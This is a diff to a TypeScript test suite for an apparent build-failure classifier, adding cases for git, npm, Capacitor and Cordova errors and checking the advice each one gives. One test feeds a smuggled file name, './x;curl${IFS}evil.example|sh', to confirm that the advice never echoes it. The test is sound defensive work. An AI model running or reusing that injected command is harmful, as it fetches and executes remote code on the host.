@@ -65,14 +65,21 @@ const expected: Readonly<Record<string, readonly [rules: string, cause: RegExp, 
   'compilers/typescript-vue': ['typescript', /TypeScript/],
   'git/git-authentication': ['git-authentication', /git\.acme\.example refuses the credentials/],
   'git/git-commit': ['git-commit', /the commit 0123456789/],
+  'git/git-describe': ['git-no-tags', /finds no tag/],
+  'git/git-describe-shallow': ['git-no-tags', /finds no tag/],
   'git/git-disk': ['disk', /disk/],
   'git/git-forbidden': ['git-forbidden', /git\.acme\.example/],
+  'git/git-lfs-pull': ['git-lfs-missing', /a file in Git LFS: 6667b2d1[\da-f]{56}\.$/],
+  'git/git-lfs-smudge': ['git-lfs-missing', /a file in Git LFS: src\/assets\/logo\.png\.$/],
   'git/git-no-credentials': ['git-authentication', /git\.acme\.example refuses the credentials/],
+  'git/git-no-repository': ['git-no-repository', /uploaded source has no \.git\.$/],
   'git/git-not-found': ['git-not-found', /git\.acme\.example/],
   'git/git-ref': ['git-ref', /no branch or tag release\/9\./],
   'git/git-refused': ['git-unreachable', /127\.0\.0\.1:4999/],
   'git/git-server-failed': ['git-server-failed', /git\.acme\.example/],
   'git/git-submodule': ['git-transport', /begin with file:/],
+  'git/git-submodule-address': ['git-submodule-address', /submodule lib has no address/],
+  'git/git-submodule-commit': ['git-submodule-commit git-commit', /repository of the submodule lib does not/],
   'git/git-submodule-not-listed': [
     'git-submodule-not-listed git-authentication',
     /submoduleRepositories .* does not list "acme\/lib"\./,
@@ -99,13 +106,19 @@ const expected: Readonly<Record<string, readonly [rules: string, cause: RegExp, 
   'machine/node-disk': ['disk', /disk/],
   'machine/node-heap': ['heap', /more memory/],
   'machine/node-module-missing': ['module-missing', /needs fs-extra,/],
-  'machine/node-permission': ['permission', /may not read, write or run/],
+  'machine/node-permission': ['permission', /may not read, write or run \/opt\/dist\.txt\.$/],
+  'machine/node-spawn-permission': ['permission', /may not read, write or run \.\/scripts\/build\.sh\.$/],
   'machine/sh-killed': ['killed', /by force/],
-  'machine/sh-permission': ['permission', /may not read, write or run/],
+  'machine/sh-permission': ['permission', /may not read, write or run \.\/scripts\/build\.sh\.$/],
   'machine/sh-processes': ['processes', /more processes/],
   'npm/npm-authentication': ['npm-authentication', /refuses the token/],
   'npm/npm-command-not-found': ['command-not-found', /command vite/],
   'npm/npm-conflict': ['npm-conflict', /react@/],
+  'npm/npm-dev-engines': [
+    'npm-dev-engines',
+    /devEngines .*: Invalid name "pnpm" does not match "npm" for "packageManager"\.$/,
+  ],
+  'npm/npm-dev-engines-node': ['npm-dev-engines', /"\^22" does not match "v24\.21\.0" for "runtime"\.$/],
   'npm/npm-disk': ['disk', /disk/],
   'npm/npm-engine': ['npm-engine', /another version of Node\.js/],
   'npm/npm-forbidden': ['npm-forbidden', /npm\.acme\.example/],
@@ -125,6 +138,13 @@ const expected: Readonly<Record<string, readonly [rules: string, cause: RegExp, 
   'npm/npm-registry-refused': ['npm-registry-unreachable', /127\.0\.0\.1:4999/],
   'npm/npm-registry-unknown': ['npm-registry-unreachable', /registry\.acme\.invalid/],
   'npm/npm-script-missing': ['npm-script-missing', /no script "build"/],
+  'npm/npm-workspace-protocol': ['npm-workspace-protocol', /npm does not know workspace:\*,/],
+  'project/capacitor-config': ['capacitor-config', /cannot be read: Error: API_URL is not set\.$/],
+  'project/capacitor-config-import': ['capacitor-config', /Error: Cannot find module '\.\/shared'\.$/],
+  'project/capacitor-missing': ['command-of-package-missing', /package of the command cap\.$/],
+  'project/cordova-missing': ['package-of-command-missing', /the package cordova,/],
+  'project/cordova-script': ['command-not-found', /command cordova does not exist/],
+  'project/output-files': ['output-files', /more than 20,000 files/],
   'signing/signing-apksigner-alias': ['signing-alias signing-signer', /no key other\./],
   'signing/signing-apksigner-key-password': ['signing-key-password signing-signer', /password of the key/],
   'signing/signing-apksigner-pkcs12-password': [
@@ -212,6 +232,33 @@ it('reports the failure that came last, and a general one only when no other is 
   expect(
     findFailure(failureRules, [...survived, ...output, ...linesOf('vite/vite-syntax')])?.cause,
   ).toContain('Vite');
+});
+
+it.each([
+  ['git/git-describe', '{"gitDepth":0}'],
+  ['git/git-lfs-smudge', 'git lfs push --all origin'],
+  ['git/git-no-repository', 'git rev-parse --short HEAD || echo "build-$CI_BUILD_NUMBER"'],
+  ['git/git-submodule-address', 'git submodule add'],
+  ['git/git-submodule-commit', 'git push --recurse-submodules=on-demand'],
+  ['machine/node-spawn-permission', 'git update-index --chmod=+x scripts/build.sh'],
+  ['npm/npm-dev-engines', '"dependencyInstallCommand": "npx pnpm install --frozen-lockfile"'],
+  ['npm/npm-dev-engines-node', 'NODE_VERSION=22'],
+  ['npm/npm-registry-unknown', 'registry=https://registry.npmjs.org/'],
+  ['npm/npm-workspace-protocol', '"dependencyInstallCommand": "npx pnpm install --frozen-lockfile"'],
+  ['project/capacitor-config', 'process.env.API_URL ??'],
+  ['project/capacitor-missing', 'npm install --save-dev @capacitor/cli'],
+  ['project/cordova-missing', 'npm install --save-dev cordova'],
+  ['project/cordova-script', 'npm install --save-dev cordova'],
+  ['project/output-files', '"webDir": "dist"'],
+])('says what to commit for %s: %s', (name, line) => {
+  expect(findFailure(failureRules, linesOf(name))?.advice.join('\n')).toContain(line);
+});
+
+it('puts no name that a build chose into a command', () => {
+  const lines = ['sh: 1: ./x;curl${IFS}evil.example|sh: Permission denied'];
+  const advice = findFailure(failureRules, lines)?.advice.join('\n') ?? '';
+  expect(advice).toContain('git update-index --chmod=+x <file>');
+  expect(advice).not.toContain('evil');
 });
 
 it('says with which setting a closed host is opened', () => {
